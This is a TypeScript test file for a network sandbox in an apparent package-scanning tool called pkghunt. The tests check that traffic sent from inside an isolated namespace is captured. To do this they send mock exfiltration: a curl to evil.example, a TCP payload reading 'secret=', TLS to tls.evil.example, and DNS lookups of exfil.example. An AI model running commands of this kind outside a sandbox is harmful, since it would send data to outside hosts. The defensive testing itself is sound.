import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';
import { checkNetworkCapabilities } from '../../src/adapters/netns/check-network-capabilities.ts';
import { cleanupStaleNetns } from '../../src/adapters/netns/cleanup-stale-netns.ts';
import { type CaptureEvent, createNetworkSandbox } from '../../src/adapters/netns/network-sandbox.ts';
import { isPkghuntError } from '../../src/core/errors.ts';
import type { DnsEvent, TcpEvent, UdpEvent } from '../../src/core/net/capture-event.ts';
import { toConnection } from '../../src/core/net/to-connection.ts';
import { toDnsQuery } from '../../src/core/net/to-dns-query.ts';

const run = promisify(execFile);
const PYTHON = '/usr/bin/python3';

/** Runs a client inside the namespace: everything it sends stays in there. */
async function inside(netns: string, argv: string[], input?: string): Promise<string> {
  if (input === undefined) {
    const { stdout } = await run('ip', ['netns', 'exec', netns, ...argv], { timeout: 15_000 });
    return stdout;
  }
  return new Promise((resolve, reject) => {
    const child = spawn('ip', ['netns', 'exec', netns, ...argv], { stdio: ['pipe', 'pipe', 'ignore'] });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => {
      out += c;
    });
    child.on('error', reject);
    child.on('close', () => resolve(out));
    child.stdin.end(input);
  });
}

function py(netns: string, code: string): Promise<string> {
  return inside(netns, [PYTHON, '-I', '-S', '-c', code]);
}

async function netnsExists(name: string): Promise<boolean> {
  const names = await readdir('/run/netns').catch(() => [] as string[]);
  return names.includes(name);
}

function pidAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

const tcpTo = (events: CaptureEvent[], ip: string, port: number) =>
  events.filter((e): e is TcpEvent => e.type === 'tcp' && e.ip === ip && e.port === port);

let workDir = '';
let socketPath = '';
const indexServer = createServer((req, res) => {
  res.setHeader('Content-Type', 'text/plain');
  res.end(`index saw ${req.method} ${req.url}`);
});

before(async () => {
  workDir = await mkdtemp(join(tmpdir(), 'pkghunt-netns-test-'));
  socketPath = join(workDir, 'index.sock');
  await new Promise<void>((resolve) => indexServer.listen(socketPath, resolve));
});

after(async () => {
  await new Promise<void>((resolve) => indexServer.close(() => resolve()));
  await rm(workDir, { recursive: true, force: true });
});

test('checkNetworkCapabilities passes on this host and names a missing python', async () => {
  await checkNetworkCapabilities();
  await assert.rejects(checkNetworkCapabilities({ python: '/nonexistent/python3' }), (error) => {
    assert.ok(isPkghuntError(error));
    assert.equal(error.code, 'CAPABILITY_MISSING');
    assert.match(error.message, /nonexistent/);
    return true;
  });
});

test('every kind of outgoing traffic lands in the sinkhole with its destination', async (t) => {
  const started = Date.now();
  const sandbox = await createNetworkSandbox({ id: 'e2e-capture', indexSocketPath: socketPath });
  t.after(() => sandbox.close().catch(() => {}));
  const ready = sandbox.events()[0];
  assert.equal(ready?.type, 'ready');

  // Only loopback exists, and every address routes to it.
  const links = await run('ip', ['-n', sandbox.name, '-o', 'link', 'show']);
  assert.deepEqual(
    links.stdout
      .trim()
      .split('\n')
      .map((l) => l.split(':')[1]?.trim()),
    ['lo'],
  );
  const route = await run('ip', ['-n', sandbox.name, 'route', 'get', '93.184.216.34']);
  assert.match(route.stdout, /^local 93\.184\.216\.34 dev lo/);

  // A DNS name, a port and a path (curl resolves through the host resolv.conf: caught on udp/53 too).
  const curl = await inside(sandbox.name, ['curl', '-sS', '-m', '5', 'http://evil.example:5566/x']);
  assert.equal(curl, 'ok\n');

  // Raw TCP to an address, with a payload that is not text.
  await py(
    sandbox.name,
    "import socket; c=socket.create_connection(('1.2.3.4',80),timeout=3); c.sendall(b'secret=\\x00\\x01abc'); c.close()",
  );
  // IPv6.
  await py(
    sandbox.name,
    "import socket; c=socket.create_connection(('2001:db8::5',8443),timeout=3); c.sendall(b'over v6'); c.close()",
  );
  // TLS with SNI, from a real client.
  await inside(
    sandbox.name,
    ['openssl', 's_client', '-connect', '9.9.9.9:443', '-servername', 'tls.evil.example'],
    '',
  );
  // UDP to an arbitrary port, v4 and v6.
  await py(
    sandbox.name,
    "import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'udp payload',('5.6.7.8',9999)); " +
      "socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(b'udp6',('2001:db8::9',5353))",
  );
  // A DNS query sent straight to a public resolver over UDP (unconnected socket) and over TCP.
  const dnsOut = await py(
    sandbox.name,
    [
      'import socket,struct',
      "q=struct.pack('!HHHHHH',0x1234,0x0100,1,0,0,0)+b'\\x05exfil\\x07example\\x00'+struct.pack('!HH',1,1)",
      's=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q,("8.8.8.8",53))',
      'r,src=s.recvfrom(512); print(src[0], src[1], struct.unpack("!H",r[:2])[0], socket.inet_ntoa(r[-4:]))',
      't=socket.create_connection(("1.1.1.1",53),timeout=3); t.sendall(struct.pack("!H",len(q))+q)',
      'n=struct.unpack("!H",t.recv(2))[0]; r=t.recv(n); print(socket.inet_ntoa(r[-4:]))',
    ].join('\n'),
  );
  const [udpLine, tcpLine] = dnsOut.trim().split('\n');
  const [srcIp, srcPort, id, answer] = (udpLine ?? '').split(' ');
  assert.deepEqual(
    [srcIp, srcPort, id],
    ['8.8.8.8', '53', String(0x1234)],
    'answer comes from the address asked',
  );
  assert.match(answer ?? '', /^127\.53\.\d+\.\d+$/);
  assert.equal(tcpLine, answer, 'same name, same address');

  // The index forwarder reaches the Unix-socket server outside.
  const index = await inside(sandbox.name, [
    'curl',
    '-sS',
    '-m',
    '5',
    `http://127.0.0.1:${sandbox.indexPort}/simple/foo/`,
  ]);
  assert.equal(index, 'index saw GET /simple/foo/');

  const events = await sandbox.close();
  assert.deepEqual(sandbox.parseErrors(), []);

  const dns = events.filter((e): e is DnsEvent => e.type === 'dns');
  const evilA = dns.find((e) => e.name === 'evil.example' && e.qtype === 'A');
  assert.ok(evilA?.answer, 'evil.example was resolved');
  const http = tcpTo(events, evilA.answer, 5566);
  assert.equal(http.length, 1);
  const httpConnection = toConnection(http[0] as TcpEvent, started);
  assert.equal(httpConnection.hostname, 'evil.example');
  assert.deepEqual(httpConnection.http, { method: 'GET', host: 'evil.example:5566', path: '/x' });
  assert.ok(httpConnection.time >= 0 && httpConnection.time < 60);

  const raw = tcpTo(events, '1.2.3.4', 80);
  assert.equal(raw.length, 1);
  assert.equal(toConnection(raw[0] as TcpEvent, started).sent_preview, 'secret=\\x00\\x01abc');

  const v6 = tcpTo(events, '2001:db8::5', 8443);
  assert.equal(Buffer.from(v6[0]?.data_b64 ?? '', 'base64').toString(), 'over v6');

  const tls = tcpTo(events, '9.9.9.9', 443);
  assert.equal(tls.length, 1);
  assert.equal(toConnection(tls[0] as TcpEvent, started).tls_sni, 'tls.evil.example');

  const udp = events.filter((e): e is UdpEvent => e.type === 'udp');
  assert.deepEqual(udp.map((e) => [e.ip, e.port, Buffer.from(e.data_b64, 'base64').toString()]).sort(), [
    ['2001:db8::9', 5353, 'udp6'],
    ['5.6.7.8', 9999, 'udp payload'],
  ]);

  const exfil = dns.filter((e) => e.name === 'exfil.example').map((e) => toDnsQuery(e, started));
  assert.deepEqual(
    exfil.map((q) => [q.type, q.server, q.answer]),
    [
      ['A', '8.8.8.8:53', answer],
      ['A', '1.1.1.1:53', answer],
    ],
  );

  // Nothing reached anything but the services: every TCP capture is accounted for above, and the
  // index traffic never shows up as a capture.
  const tcpDestinations = events.filter((e) => e.type === 'tcp').map((e) => `${e.ip}:${e.port}`);
  assert.deepEqual(
    tcpDestinations.sort(),
    [`${evilA.answer}:5566`, '1.2.3.4:80', '2001:db8::5:8443', '9.9.9.9:443'].sort(),
  );
  const stats = events.at(-1);
  assert.equal(stats?.type, 'stats');
});

test('close() leaves no namespace and no process behind, and is idempotent', async () => {
  const sandbox = await createNetworkSandbox({ id: 'e2e-close', indexSocketPath: socketPath });
  const ready = sandbox.events()[0];
  assert.ok(ready?.type === 'ready');
  assert.ok(await netnsExists(sandbox.name));
  assert.ok(pidAlive(ready.pid));
  // A connection still open at close time is reported with what it sent so far.
  const client = spawn('ip', [
    'netns',
    'exec',
    sandbox.name,
    PYTHON,
    '-c',
    "import socket,time; c=socket.create_connection(('10.0.0.1',22)); c.sendall(b'SSH-2.0-x\\r\\n'); print('sent', flush=True); time.sleep(30)",
  ]);
  try {
    await new Promise<void>((resolve, reject) => {
      client.stdout.once('data', () => resolve());
      client.once('close', () => reject(new Error('client exited before sending')));
    });
    const events = await sandbox.close();
    const open = tcpTo(events, '10.0.0.1', 22);
    assert.equal(open.length, 1);
    assert.equal(open[0]?.open, true);
    assert.equal(Buffer.from(open[0]?.data_b64 ?? '', 'base64').toString(), 'SSH-2.0-x\r\n');
    assert.equal(await netnsExists(sandbox.name), false);
    assert.equal(pidAlive(ready.pid), false);
    assert.deepEqual(await sandbox.close(), events);
  } finally {
    if (client.pid !== undefined && client.exitCode === null) client.kill('SIGKILL');
  }
});

test('garbage on the DNS and sinkhole ports does not stop the services', async (t) => {
  const sandbox = await createNetworkSandbox({ id: 'e2e-garbage', indexSocketPath: socketPath });
  t.after(() => sandbox.close().catch(() => {}));
  const out = await py(
    sandbox.name,
    [
      'import socket,struct,os',
      'u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)',
      "for junk in [b'', b'\\x00', os.urandom(11), b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\xc0\\x0c', os.urandom(600)]: u.sendto(junk,('8.8.4.4',53))",
      't=socket.create_connection(("8.8.4.4",53),timeout=3); t.sendall(b"\\x00\\x05junk!"); t.close()',
      'for i in range(50):',
      '  c=socket.create_connection(("203.0.113.%d"%(i+1),1000+i),timeout=3); c.sendall(os.urandom(100)); c.close()',
      "q=struct.pack('!HHHHHH',7,0x0100,1,0,0,0)+b'\\x02ok\\x07example\\x00'+struct.pack('!HH',1,1)",
      'u.settimeout(3); u.sendto(q,("8.8.4.4",53)); print(socket.inet_ntoa(u.recvfrom(512)[0][-4:]))',
    ].join('\n'),
  );
  assert.match(out.trim(), /^127\.53\.\d+\.\d+$/);
  const events = await sandbox.close();
  assert.equal(events.filter((e) => e.type === 'tcp').length, 50);
  assert.ok(events.some((e) => e.type === 'error' && e.where.startsWith('dns')));
  assert.deepEqual(sandbox.parseErrors(), []);
});

test('settle() returns once what reached netsvc is recorded, without closing it', async (t) => {
  const sandbox = await createNetworkSandbox({ id: 'e2e-settle', indexSocketPath: socketPath });
  t.after(() => sandbox.close().catch(() => {}));
  const idle = performance.now();
  await sandbox.settle();
  assert.ok(performance.now() - idle < 1000, 'an idle netsvc answers at once');
  // The client is gone (its sockets closed) before settle(), as a phase's processes are.
  await py(
    sandbox.name,
    [
      'import socket',
      "c=socket.create_connection(('192.0.2.7',8080),timeout=3); c.sendall(b'GET /settle HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); c.recv(100); c.close()",
      "socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'late udp',('192.0.2.8',7777))",
      "d=socket.create_connection(('192.0.2.9',9),timeout=3); d.sendall(b'no answer'); d.close()",
    ].join('\n'),
  );
  await sandbox.settle();
  const events = sandbox.events();
  assert.equal(tcpTo(events, '192.0.2.7', 8080).length, 1);
  assert.equal(tcpTo(events, '192.0.2.9', 9).length, 1);
  assert.ok(events.some((e) => e.type === 'udp' && e.ip === '192.0.2.8' && e.port === 7777));
  assert.ok(
    events.every((e) => (e.type as string) !== 'synced'),
    'sync answers are not capture events',
  );
  // Still serving after a settle, and a second settle works.
  await py(sandbox.name, "import socket; c=socket.create_connection(('192.0.2.10',1),timeout=3); c.close()");
  await sandbox.settle();
  assert.equal(tcpTo(sandbox.events(), '192.0.2.10', 1).length, 1);
  assert.deepEqual(sandbox.parseErrors(), []);
});

test('many concurrent connections are all recorded, and DNS over IPv6 is answered', async (t) => {
  const sandbox = await createNetworkSandbox({ id: 'e2e-many', indexSocketPath: socketPath });
  t.after(() => sandbox.close().catch(() => {}));
  const out = await py(
    sandbox.name,
    [
      'import socket,struct,threading',
      'def hit(i):',
      '  c=socket.create_connection(("198.51.100.%d"%(i%250+1),2000+i),timeout=10); c.sendall(b"n=%d"%i); c.recv(1); c.close()',
      'ts=[threading.Thread(target=hit,args=(i,)) for i in range(200)]',
      '[x.start() for x in ts]; [x.join() for x in ts]',
      "q=struct.pack('!HHHHHH',9,0x0100,1,0,0,0)+b'\\x02v6\\x07example\\x00'+struct.pack('!HH',1,1)",
      's=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("2001:4860:4860::8888",53)); s.send(q)',
      'print(socket.inet_ntoa(s.recv(512)[-4:]))',
    ].join('\n'),
  );
  assert.match(out.trim(), /^127\.53\.\d+\.\d+$/);
  const events = await sandbox.close();
  const tcp = events.filter((e): e is TcpEvent => e.type === 'tcp');
  assert.equal(tcp.length, 200);
  assert.equal(new Set(tcp.map((e) => Buffer.from(e.data_b64, 'base64').toString())).size, 200);
  const v6 = events.find((e): e is DnsEvent => e.type === 'dns' && e.name === 'v6.example');
  assert.equal(v6?.server, '[2001:4860:4860::8888]:53');
});

test('set-up plus tear-down is fast', async (t) => {
  const times: number[] = [];
  for (let i = 0; i < 3; i++) {
    const t0 = performance.now();
    const sandbox = await createNetworkSandbox({ id: `e2e-speed-${i}`, indexSocketPath: socketPath });
    await sandbox.close();
    times.push(performance.now() - t0);
  }
  const median = times.sort((a, b) => a - b)[1] ?? Number.POSITIVE_INFINITY;
  // Measured ~65 ms on the project's 2-core VM; the bound leaves room for a busy machine.
  t.diagnostic(`set-up + tear-down: ${times.map((ms) => ms.toFixed(0)).join(', ')} ms`);
  assert.ok(median < 400, `median ${median.toFixed(0)} ms`);
});

test('cleanupStaleNetns removes namespaces of dead pkghunt processes only', async () => {
  const child = spawn('true');
  await new Promise((resolve) => child.on('close', resolve));
  const deadName = `pkghunt-${child.pid}-stale`;
  const liveName = `pkghunt-${process.pid}-live`;
  await run('ip', ['netns', 'add', deadName]);
  await run('ip', ['netns', 'add', liveName]);
  try {
    const deleted = await cleanupStaleNetns();
    assert.ok(deleted.includes(deadName));
    assert.equal(deleted.includes(liveName), false);
    assert.equal(await netnsExists(deadName), false);
    assert.equal(await netnsExists(liveName), true);
  } finally {
    await run('ip', ['netns', 'delete', deadName]).catch(() => {});
    await run('ip', ['netns', 'delete', liveName]).catch(() => {});
  }
});
